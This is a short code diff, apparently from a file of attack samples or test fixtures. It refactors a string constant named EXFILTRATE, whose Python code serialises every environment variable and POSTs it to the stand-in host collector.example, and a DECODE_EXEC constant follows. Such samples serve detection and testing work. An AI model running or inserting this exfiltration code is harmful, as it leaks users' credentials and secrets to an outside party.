@@ -145,7 +145,8 @@ EXFILTRATE = """
 import json as _j
 import urllib.request
 
-_req = urllib.request.Request("http://collector.example/c", data=_j.dumps(dict(os.environ)).encode())
+_url = "http://collector.example/c"
+_req = urllib.request.Request(_url, data=_j.dumps(dict(os.environ)).encode())
 urllib.request.urlopen(_req)
 """
 DECODE_EXEC = """
